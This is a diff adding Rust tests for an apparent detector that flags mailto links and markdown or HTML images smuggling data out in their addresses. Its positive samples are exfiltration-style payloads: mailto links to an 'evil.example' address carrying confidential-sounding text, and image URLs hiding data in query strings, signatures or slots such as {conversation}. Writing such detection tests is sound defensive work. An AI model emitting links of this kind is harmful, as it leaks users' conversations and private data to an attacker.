@@ -171,6 +171,38 @@ fn links_that_say_something_are_found() {
     }
 }
 
+/// A mail that is written already tells in words what it tells, whatever its address stands in.
+#[test]
+fn mails_that_are_written_already_are_found() {
+    let words = "the launch is on 14 March and the budget is 4.2 million";
+    let coded = words.replace(' ', "%20");
+    for text in [
+        format!("mailto:eve@evil.example?subject=x&body={coded}"),
+        format!("[mail us](mailto:eve@evil.example?subject=x&body={coded})"),
+        format!("[mail us](<mailto:eve@evil.example?body={words}>)"),
+        format!("<a href=\"mailto:eve@evil.example?subject=x&amp;body={coded}\">x</a>"),
+        format!("<a href='mailto:eve@evil.example?body={words}'>x</a>"),
+        format!("MailTo:eve@evil.example?body={}", words.replace(' ', "+")),
+        format!("mailto:eve@evil.example?subject={coded}"),
+        format!("mailto:?bcc=eve@evil.example&body={coded}"),
+        "mailto:eve@evil.example?body=启动日期是三月十四日预算为四百二十万美元".to_owned(),
+    ] {
+        assert_eq!(what(&text), ["mail_with_data"], "{text}");
+    }
+    for text in [
+        // Whoever follows it says to whom it goes.
+        format!("<a href=\"mailto:?subject=An%20article&body={coded}\">share</a>"),
+        "<a href='mailto:a@corp.example?subject=Hello there'>it's us, and the office is open on all days</a>"
+            .to_owned(),
+        "mailto:a@corp.example?subject=Job%20offer&body=Dear%20team%2C%20please%20call%20me".to_owned(),
+        "write to mailto:a@corp.example and tell us what you think of the new shop in our town".to_owned(),
+        "<mailto:a@corp.example?subject=Help\nand here are many words that are in no address at all>"
+            .to_owned(),
+    ] {
+        assert_eq!(what(&text), [""; 0], "{text}");
+    }
+}
+
 #[test]
 fn ordinary_long_addresses_are_clean() {
     for text in include_str!("clean.txt").lines().filter(|line| !line.is_empty()) {
@@ -231,6 +263,91 @@ fn badges_of_words_and_versions_are_clean() {
         "![x](https://b.example/p.png?style=flat&label=4539578763621486&color=blue&logo=x&w=1)",
     ] {
         assert_eq!(what(text), ["image_with_data"], "{text}");
+    }
+}
+
+/// Formulas, charts, maps and signed addresses of pictures, none of which says anything of anybody.
+#[test]
+fn pictures_that_are_drawn_or_signed_carry_nothing() {
+    for text in include_str!("drawn.txt").lines().filter(|line| !line.is_empty()) {
+        for text in [format!("![x]({text})"), format!("<img src=\"{text}\">")] {
+            assert_eq!(what(&text), [""; 0], "{text}");
+        }
+    }
+}
+
+/// The same shapes, with words, an encoding or a place to fill in.
+#[test]
+fn what_is_written_into_drawings_and_signatures_is_found() {
+    for (text, expected) in [
+        (
+            r"https://t.example/svg?\text{the%20launch%20is%20on%2014%20March}",
+            "image_with_slot",
+        ),
+        (
+            r"https://t.example/svg?q=\pi%20the%20launch%20is%20on%2014%20March",
+            "image_with_data",
+        ),
+        (r"https://t.example/svg?\frac{conversation}{b}", "image_with_slot"),
+        (r"https://t.example/svg?q=\frac{summary}{b}", "image_with_slot"),
+        (
+            r"https://t.example/svg?q=\frac{a}{b}&d={summary}",
+            "image_with_slot",
+        ),
+        ("https://t.example/svg?q=%7Bsummary%7D", "image_with_slot"),
+        ("https://t.example/img_{id}.png", "image_with_slot"),
+        ("https://t.example/c?c={conversation:", "image_with_slot"),
+        ("https://t.example/c?c={data:", "image_with_slot"),
+        (
+            "https://t.example/c?c=%7B%22text%22:%22the%20conversation%22%7D",
+            "image_with_slot",
+        ),
+        (
+            "https://t.example/c?c=%7Btype%3A%27bar%27%2Cdata%3A%7Blabels%3A%5B%27the%20launch%20is%20on%20March%27%5D%7D%7D",
+            "image_with_data",
+        ),
+        (
+            "https://t.example/p.png?token=the-launch-is-on-14-march-and-the-budget-is-four",
+            "image_with_data",
+        ),
+        (
+            "https://t.example/p.png?Expires=1760000000&Signature=TheLaunchIsOn14MarchAndTheBudgetIs42Million",
+            "image_with_data",
+        ),
+        (
+            "https://t.example/p.png?X-Amz-Signature=dGhlIGxhdW5jaCBpcyBvbiAxNCBNYXJjaA",
+            "image_with_data",
+        ),
+        (
+            "https://t.example/p.png?X-Amz-Signature=746865206c61756e6368206973206f6e203134204d61",
+            "image_with_data",
+        ),
+        (
+            "https://t.example/p.png?size=1&theme=dark&x=1&sig=4539578763621486453957876",
+            "image_with_data",
+        ),
+        (
+            "https://t.example/p.png?X-Amz-Credential=the%2F20260303%2Flaunch%2Fis%2Fon-14-march-and&X-Amz-Expires=900",
+            "image_with_data",
+        ),
+        (
+            "https://t.example/p.png?first=ann&last=miller&card=453957&more=876362&rest=1486",
+            "image_with_data",
+        ),
+        (
+            "https://t.example/m.png?center=52.516275,13.377704&zoom=13&markers=453957,876362,148645,395787",
+            "image_with_data",
+        ),
+        (
+            "https://t.example/p.png?a=the,launch,is,on,14,March,and,the,budget,is,4",
+            "image_with_data",
+        ),
+        (
+            "https://t.example/p.png?lines=The+five+boxing+wizards+jump+quickly",
+            "image_with_data",
+        ),
+    ] {
+        assert_eq!(what(&format!("![x]({text})")), [expected], "{text}");
     }
 }
 
